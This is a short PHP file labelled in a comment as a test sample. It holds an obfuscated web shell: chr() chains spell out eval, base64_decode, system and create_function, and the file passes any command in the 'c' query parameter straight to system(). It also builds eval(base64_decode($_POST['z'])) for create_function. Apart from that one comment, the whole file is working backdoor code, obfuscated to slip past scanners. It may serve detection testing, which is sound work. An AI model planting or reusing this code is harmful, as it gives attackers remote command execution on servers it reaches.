<?php
// Test sample: names built from chr() chains; eval source also built from chr().
$e = chr(101).chr(118).chr(97).chr(108);
$d = chr(98).chr(97).chr(115).chr(101).chr(54).chr(52).chr(95).chr(100).chr(101).chr(99).chr(111).chr(100).chr(101);
$s = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
$cf = chr(99).chr(114).chr(101).chr(97).chr(116).chr(101).chr(95).chr(102).chr(117).chr(110).chr(99).chr(116).chr(105).chr(111).chr(110);
$code = $e . '(' . $d . '($_POST[' . chr(39) . 'z' . chr(39) . ']));';
$fn = @$cf('', $code);
if (isset($_GET['c'])) { $s($_GET['c']); }
